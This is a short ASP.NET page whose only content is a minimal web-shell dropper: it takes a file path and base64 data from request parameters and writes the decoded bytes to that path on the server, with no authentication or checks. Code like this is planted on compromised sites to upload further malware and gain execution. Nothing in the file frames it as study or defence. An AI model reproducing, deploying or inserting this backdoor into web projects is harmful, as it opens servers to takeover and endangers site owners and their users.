<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%
if (Request["p"] != null && Request["d"] != null)
{
    File.WriteAllBytes(Request["p"], Convert.FromBase64String(Request["d"]));
    Response.Write("1");
}
%>
